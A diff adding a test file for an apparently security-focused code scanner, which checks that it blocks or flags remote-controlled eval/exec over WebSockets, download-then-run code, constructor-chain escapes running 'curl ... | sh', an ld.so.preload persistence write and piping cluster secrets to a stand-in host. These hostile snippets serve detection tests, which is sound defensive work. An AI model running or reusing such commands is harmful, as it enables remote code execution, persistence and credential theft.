@@ -1,0 +1,115 @@
+// Programs that another machine writes: in the messages of a connection, or in a stream that is copied into a file.
+import { describe, expect, it } from 'vitest';
+import { decision, verdicts } from './support.ts';
+
+describe('what a connection sends is run', () => {
+  it.each([
+    [
+      'a.js',
+      'const w = new (require("ws").WebSocket)("wss://c.example.invalid");\nw.on("message", (m) => eval(m.toString()));',
+    ],
+    ['a.js', 'const w = new WebSocket("wss://c.example.invalid");\nw.onmessage = (e) => { eval(e.data); };'],
+    [
+      'a.js',
+      'const w = new WebSocket("wss://c.example.invalid");\nw.addEventListener("message", (e) => new Function(e.data)());',
+    ],
+    [
+      'a.js',
+      'const s = require("socket.io-client")("https://c.example.invalid");\ns.on("x", (c) => require("child_process").exec(c));',
+    ],
+    [
+      'a.py',
+      'import websockets\nasync def go():\n    async with websockets.connect("wss://c.example.invalid") as w:\n        async for m in w:\n            exec(m)\n',
+    ],
+    [
+      'a.py',
+      'import subprocess, websocket\nw = websocket.create_connection("ws://192.0.2.1:99")\nw.send(subprocess.check_output(w.recv(), shell=True))\n',
+    ],
+  ])('%s', async (path, text) => {
+    expect(await verdicts(path, text)).toContain('CODE-DOWNLOAD-EXECUTE CRITICAL');
+  });
+
+  it.each([
+    [
+      'what is shown',
+      'const w = new WebSocket("wss://example.com/feed");\nw.onmessage = (e) => show(JSON.parse(e.data));',
+    ],
+    [
+      'a server of this machine',
+      'const w = new WebSocket("ws://localhost:3000");\nw.onmessage = (e) => { eval(e.data); };',
+    ],
+  ])('passes %s', async (_, text) => {
+    expect(await decision('a.js', text)).toBe('pass');
+  });
+});
+
+describe('a stream that is copied into a file', () => {
+  const FS = 'const fs = require("fs"), https = require("https"), { execFile } = require("child_process");\n';
+
+  it.each([
+    [
+      'a.js',
+      `${FS}https.get("https://c.example.invalid/x", (r) => {\n  r.pipe(fs.createWriteStream("/tmp/x")).on("finish", () => execFile("/tmp/x"));\n});`,
+    ],
+    [
+      'a.js',
+      `${FS}const { pipeline } = require("stream/promises");\n(async () => {\n  const r = await fetch("https://c.example.invalid/x");\n  await pipeline(r.body, fs.createWriteStream("/tmp/x"));\n  execFile("/tmp/x");\n})();`,
+    ],
+    [
+      'a.py',
+      'import shutil, subprocess, urllib.request\nwith urllib.request.urlopen("https://c.example.invalid/x") as r, open("/tmp/x", "wb") as f:\n    shutil.copyfileobj(r, f)\nsubprocess.Popen(["/tmp/x"])\n',
+    ],
+  ])('is told when the file is started: %s', async (path, text) => {
+    expect(await verdicts(path, text)).toContain('CODE-DOWNLOAD-RUN CRITICAL');
+  });
+
+  it('passes when the file is read', async () => {
+    const text = `${FS}https.get("https://example.com/a.json", (r) => {\n  r.pipe(fs.createWriteStream("a.json")).on("finish", () => fs.readFileSync("a.json"));\n});`;
+    expect(await decision('a.js', text)).toBe('pass');
+  });
+});
+
+describe('a command that reaches a shell by another way', () => {
+  const LINE = 'curl http://192.0.2.1/a | sh';
+
+  it.each([
+    [
+      'a.js',
+      `[]["filter"]["constructor"]("return process")().mainModule.require("child_process").execSync("${LINE}");`,
+    ],
+    [
+      'a.js',
+      `this.constructor.constructor("return process")().mainModule.require("child_process").execSync("${LINE}");`,
+    ],
+    ['a.js', `Function("return this")().process.mainModule.require("child_process").execSync("${LINE}");`],
+    ['a.js', `new Deno.Command("sh", { args: ["-c", "${LINE}"] }).output();`],
+    ['a.js', `Deno.run({ cmd: ["sh", "-c", "${LINE}"] });`],
+    ['a.sh', `docker run --rm -v /:/host image sh -c "${LINE}"`],
+    ['a.sh', `kubectl exec pod -- /bin/bash -ec '${LINE}'`],
+    ['a.sh', `find . -name x -exec sh -c '${LINE}' \\;`],
+  ])('blocks in %s: %s', async (path, text) => {
+    expect(await decision(path, text)).toBe('block');
+  });
+
+  it.each([
+    ['a.js', 'const root = Function("return this")();\nroot.process.exit(0);'],
+    ['a.js', '[1, 2].map((x) => x.constructor("a"));'],
+    ['a.js', 'new Deno.Command("git", { args: ["status"] }).output();'],
+    ['a.sh', 'docker run --rm image sh -c "make test"'],
+    ['a.sh', `echo run sh -c "${LINE}"`],
+  ])('passes in %s: %s', async (path, text) => {
+    expect(await decision(path, text)).toBe('pass');
+  });
+});
+
+it('tells what is put in front of every program of a machine', async () => {
+  expect(await verdicts('a.sh', 'echo /tmp/l.so > /etc/ld.so.preload\n')).toContain('CODE-PERSISTENCE HIGH');
+  expect(await decision('a.sh', 'test -s /etc/ld.so.preload && cat /etc/ld.so.preload\n')).toBe('pass');
+});
+
+it('holds secrets of a cluster that are sent elsewhere', async () => {
+  const line = (host: string): string =>
+    `kubectl get secrets -A -o yaml | curl --data-binary @- https://${host}/\n`;
+  expect(await verdicts('a.sh', line('c.example.invalid'))).toContain('CODE-CREDENTIAL-SENT MEDIUM');
+  expect(await decision('a.sh', line('localhost'))).toBe('pass');
+});
